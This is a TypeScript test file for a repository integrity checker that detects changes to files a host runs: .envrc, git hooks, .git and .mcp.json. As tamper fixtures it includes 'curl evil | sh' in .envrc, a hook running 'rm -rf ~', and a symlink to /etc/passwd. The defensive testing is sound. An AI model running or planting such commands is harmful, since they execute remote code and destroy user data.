import {expect} from 'chai'
import {
  acceptChanges,
  compareFingerprints,
  type Entry,
  type Fingerprint,
  integrityProblems,
  renderChangeBlock,
} from '../../../src/lib/integrity/fingerprint.js'

const file = (text: string, mode = 0o644): Entry => ({type: 'file', mode, size: text.length, hash: `h(${text})`, text})
const gitDir = (identity: string): Entry => ({type: 'dir', mode: 0o755, size: 0, identity})

const accepted: Fingerprint = {
  '.git': gitDir('64769:100'),
  '.git/config': file('[core]\n'),
  '.git/hooks': {type: 'dir', mode: 0o755, size: 0},
  '.git/hooks/pre-push': file('#!/bin/sh\n', 0o755),
  '.envrc': file('use nix\n'),
}

describe('integrity: comparing fingerprints', () => {
  it('finds nothing when nothing changed', () => {
    expect(compareFingerprints(accepted, {...accepted})).to.deep.equal([])
  })

  it('names each added, changed and removed path, sorted by path', () => {
    const now: Fingerprint = {...accepted, '.envrc': file('curl evil | sh\n'), '.mcp.json': file('{}')}
    delete now['.git/hooks/pre-push']
    now['.git/hooks/post-checkout'] = file('#!/bin/sh\nrm -rf ~\n', 0o755)
    expect(compareFingerprints(accepted, now).map((c) => `${c.change} ${c.path}`)).to.deep.equal([
      'changed .envrc',
      'added .git/hooks/post-checkout',
      'removed .git/hooks/pre-push',
      'added .mcp.json',
    ])
  })

  it('sees a mode change (a hook made executable, a setuid bit) even when the content is the same', () => {
    const now = {...accepted, '.envrc': file('use nix\n', 0o4755)}
    expect(compareFingerprints(accepted, now)).to.deep.equal([
      {path: '.envrc', change: 'changed', detail: 'mode 0644 -> 4755'},
    ])
  })

  it('calls a .git with another identity swapped, even when everything inside looks alike', () => {
    const now = {...accepted, '.git': gitDir('64769:555')}
    const [change] = compareFingerprints(accepted, now)
    expect(change).to.include({path: '.git', change: 'swapped'})
    expect(change?.detail).to.include('64769:100').and.include('64769:555')
  })

  it('sees a file turned into a symlink, and a symlink retargeted', () => {
    const link = (to: string): Entry => ({type: 'symlink', mode: 0o777, size: 0, hash: to})
    expect(compareFingerprints(accepted, {...accepted, '.envrc': link('/etc/passwd')})[0]).to.include({
      change: 'changed',
      detail: 'was a file, now symlink to /etc/passwd',
    })
    expect(compareFingerprints({'.envrc': link('a')}, {'.envrc': link('b')})[0]?.detail).to.equal('now points to b')
  })
})

describe('integrity: accepting changes', () => {
  const now: Fingerprint = {
    ...accepted,
    '.envrc': file('changed\n'),
    '.git/hooks/post-checkout': file('#!/bin/sh\n'),
    '.mcp.json': file('{}'),
  }

  it('accepts everything when no path is named', () => {
    const result = acceptChanges(accepted, now, [])
    expect(result.entries).to.equal(now)
    expect(result.accepted).to.have.length(3)
    expect(compareFingerprints(result.entries, now)).to.deep.equal([])
  })

  it('accepts only the named paths and those below them; the rest stay changed', () => {
    const result = acceptChanges(accepted, now, ['./.git/hooks/', '.mcp.json'])
    expect(result.accepted.map((c) => c.path)).to.deep.equal(['.git/hooks/post-checkout', '.mcp.json'])
    expect(compareFingerprints(result.entries, now).map((c) => c.path)).to.deep.equal(['.envrc'])
  })

  it('accepting a removal forgets the path', () => {
    const gone = {...accepted}
    delete gone['.envrc']
    const result = acceptChanges(accepted, gone, ['.envrc'])
    expect(result.entries).to.not.have.property('.envrc')
  })

  it('reports a named path that matches no change, and accepts nothing then', () => {
    const result = acceptChanges(accepted, now, ['.envrc', 'README.md'])
    expect(result).to.deep.equal({entries: accepted, accepted: [], unknown: 'README.md'})
    // `.git` itself did not change, though paths below it did: a prefix only covers what is below it.
    expect(acceptChanges(accepted, now, ['.gi']).unknown).to.equal('.gi')
  })
})

describe('integrity: what the user is shown', () => {
  it('one block: each path, how to look, how to accept', () => {
    const lines = renderChangeBlock('alpha', [
      {path: '.envrc', change: 'changed', detail: 'content'},
      {path: '.git', change: 'swapped', detail: 'a different dir now'},
    ])
    expect(lines).to.deep.equal([
      'repoman: files your host runs changed in "alpha" since you last accepted them:',
      '  changed  .envrc (content)',
      '  swapped  .git (a different dir now)',
      'Look:   repoman review alpha',
      'Accept: repoman accept alpha [PATH...]',
    ])
  })

  it('a status problem per change and per flagged file', () => {
    expect(
      integrityProblems(
        'alpha',
        [{path: '.envrc', change: 'changed', detail: 'content'}],
        [{path: 'bin/x', kind: 'setuid', detail: 'setuid file (mode 4755, owner 0)'}],
      ),
    ).to.deep.equal([
      '.envrc changed since accepted (`repoman review alpha`)',
      'bin/x: setuid file (mode 4755, owner 0)',
    ])
  })
})
